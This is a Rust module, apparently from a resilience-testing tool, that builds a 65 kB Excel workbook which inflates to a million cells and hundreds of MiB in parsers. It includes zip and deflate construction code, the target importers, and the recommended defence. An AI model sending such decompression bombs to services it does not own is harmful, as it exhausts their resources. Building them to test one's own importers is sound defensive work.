//! A workbook whose one sheet is a million equal cells.

use crate::payload::deflated::Deflated;
use crate::payload::pieces::once;
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "xlsx-bomb",
    group: Group::Documents,
    about: About {
        summary: "A small Excel workbook with a million cells.",
        provokes: "Import jobs that load a workbook as a tree: the zip entry inflates 250 times, and every cell of 15 \
                   bytes of XML becomes an object.",
        seen: "Apache POI refuses such ratios (\"Zip bomb detected\"), and users switch the check off \
               (ozlerhakan/poiji issue 107, apache/fesod issue 327, nightscape/spark-excel issue 231).",
        becomes: "65 kB on the wire and 16 MB of XML; 343 MiB and 9 s of CPU in openpyxl.",
        safe: "413 or 400 after the size in the zip directory; a reader that streams rows and counts them.",
    },
    parameters: &[Parameter {
        name: "cells",
        about: "cells of the sheet, in rows of twelve; rounded up to whole rows",
        takes: Takes::Count { least: 1, most: 200_000_000, default: 1_000_000 },
    }],
    form: Form::Body(make),
};

const CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
/// A row of twelve cells; with two spaces it is 193 bytes, a length of which repeats cost 8 bits.
const ROW: &[u8] = b"<row><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c>\
<c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c><c><v>1</v></c>  </row>";
const CELLS_OF_A_ROW: u64 = 12;
const BEFORE: &[u8] = br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const AFTER: &[u8] = b"</sheetData></worksheet>";

/// What a workbook needs besides its sheet (ECMA-376 part 2, and part 1 section 12).
const PARTS: [(&str, &str); 4] = [
    (
        "[Content_Types].xml",
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
    ),
    (
        "_rels/.rels",
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
    ),
    (
        "xl/workbook.xml",
        r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
    ),
    (
        "xl/_rels/workbook.xml.rels",
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
    ),
];
const SHEET: &str = "xl/worksheets/sheet1.xml";

fn make(values: &Values, _: &Turn) -> Body {
    let rows = values.number("cells").div_ceil(CELLS_OF_A_ROW);
    let mut zip = Zip::default();
    for (name, text) in PARTS {
        zip.entry(name, STORED, crc32fast::hash(text.as_bytes()), text.len() as u64, text.len() as u64);
        zip.before.extend(text.as_bytes());
    }
    // A row has one of the lengths at which a repeat can be written by hand.
    let Some(sheet) = Deflated::new(BEFORE, ROW, rows, AFTER) else {
        return Body::new(CONTENT_TYPE, 0, std::iter::empty());
    };
    let inflated = (BEFORE.len() + AFTER.len()) as u64 + rows * ROW.len() as u64;
    zip.entry(SHEET, DEFLATED, sum(rows), sheet.size(), inflated);
    let ending = zip.ending(sheet.size());
    let size = zip.before.len() as u64 + sheet.size() + ending.len() as u64;
    Body::new(CONTENT_TYPE, size, once(zip.before).chain(sheet.chunks()).chain(once(ending)))
}

/// CRC-32 of a sheet of so many rows, by doubling.
fn sum(rows: u64) -> u32 {
    let of = |text: &[u8]| {
        let mut sum = crc32fast::Hasher::new();
        sum.update(text);
        sum
    };
    let (mut sum, mut power, mut left) = (of(BEFORE), of(ROW), rows);
    while left > 0 {
        if left & 1 == 1 {
            sum.combine(&power);
        }
        left >>= 1;
        power.combine(&power.clone());
    }
    sum.combine(&of(AFTER));
    sum.finalize()
}

/// Methods of compression (APPNOTE.TXT 4.4.5).
const STORED: u16 = 0;
const DEFLATED: u16 = 8;

/// A zip file in the making: everything up to the data of the last entry, and its directory.
#[derive(Default)]
struct Zip {
    before: Vec<u8>,
    directory: Vec<u8>,
    entries: u16,
}

impl Zip {
    /// A local header (4.3.7), whose data is to follow, and the entry of the directory (4.3.12).
    fn entry(&mut self, name: &str, method: u16, sum: u32, packed: u64, unpacked: u64) {
        let mut fields = Vec::new();
        // Version 2.0, no flags; 1980-01-01 00:00, the smallest date.
        for field in [20, 0, method, 0, 0x21] {
            fields.extend(field.to_le_bytes());
        }
        for field in [sum, packed as u32, unpacked as u32] {
            fields.extend(field.to_le_bytes());
        }
        fields.extend((name.len() as u16).to_le_bytes());
        fields.extend([0, 0]);
        let offset = self.before.len() as u32;
        self.before.extend(b"PK\x03\x04");
        self.before.extend(&fields);
        self.before.extend(name.as_bytes());
        self.directory.extend(b"PK\x01\x02\x14\x00");
        self.directory.extend(&fields);
        // No comment, first disk, no attributes.
        self.directory.extend([0; 10]);
        self.directory.extend(offset.to_le_bytes());
        self.directory.extend(name.as_bytes());
        self.entries += 1;
    }

    /// The directory and its end (4.3.16), when the last entry's data has this size.
    fn ending(&self, last: u64) -> Vec<u8> {
        let mut ending = self.directory.clone();
        ending.extend(b"PK\x05\x06\0\0\0\0");
        ending.extend(self.entries.to_le_bytes());
        ending.extend(self.entries.to_le_bytes());
        ending.extend((self.directory.len() as u32).to_le_bytes());
        ending.extend((self.before.len() as u32 + last as u32).to_le_bytes());
        ending.extend([0, 0]);
        ending
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use bytes::Bytes;

    use super::*;
    use crate::payload::Value;

    fn wire(cells: u64) -> Vec<u8> {
        let values = Values::defaults(FAMILY).with("cells", Value::Number(cells));
        let body = make(&values, &Turn { index: 0, unique: 0, key: [0; 32] });
        let wire: Vec<Bytes> = body.chunks.collect();
        assert_eq!(wire.concat().len() as u64, body.size);
        wire.concat()
    }

    #[test]
    fn a_real_zip_reader_checks_every_part_and_a_real_xml_parser_counts_the_cells() {
        for cells in [1, 12, 13, 30_000] {
            let mut zip = zip::ZipArchive::new(std::io::Cursor::new(wire(cells))).unwrap();
            assert_eq!(zip.len(), PARTS.len() + 1);
            for index in 0..zip.len() {
                let mut text = String::new();
                zip.by_index(index).unwrap().read_to_string(&mut text).unwrap();
                roxmltree::Document::parse(&text).unwrap();
            }
            let mut text = String::new();
            zip.by_name(SHEET).unwrap().read_to_string(&mut text).unwrap();
            let sheet = roxmltree::Document::parse(&text).unwrap();
            let of = |name: &'static str| sheet.descendants().filter(move |node| node.tag_name().name() == name);
            assert_eq!(of("row").count() as u64, cells.div_ceil(12));
            assert_eq!(of("v").filter(|value| value.text() == Some("1")).count() as u64, cells.div_ceil(12) * 12);
        }
    }

    #[test]
    fn a_million_cells_are_65_kilobytes() {
        let size = wire(1_000_000).len();
        assert!((60_000..66_000).contains(&size), "{size}");
    }
}
